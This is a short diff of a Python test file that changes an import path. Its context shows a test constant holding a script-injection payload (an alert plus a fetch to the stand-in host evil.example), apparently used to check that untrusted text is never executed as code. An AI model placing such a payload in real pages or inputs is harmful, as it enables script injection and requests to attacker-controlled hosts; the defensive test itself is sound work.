@@ -14,7 +14,7 @@ import re
 import shutil
 from pathlib import Path
 
-from tests.helpers import FIXTURES, ROOT
+from tests.harness.site import FIXTURES, ROOT
 
 # Runs if it ever becomes code: a dialog, and a request that leaves 127.0.0.1.
 JS = "alert(1);fetch('https://evil.example/x')"
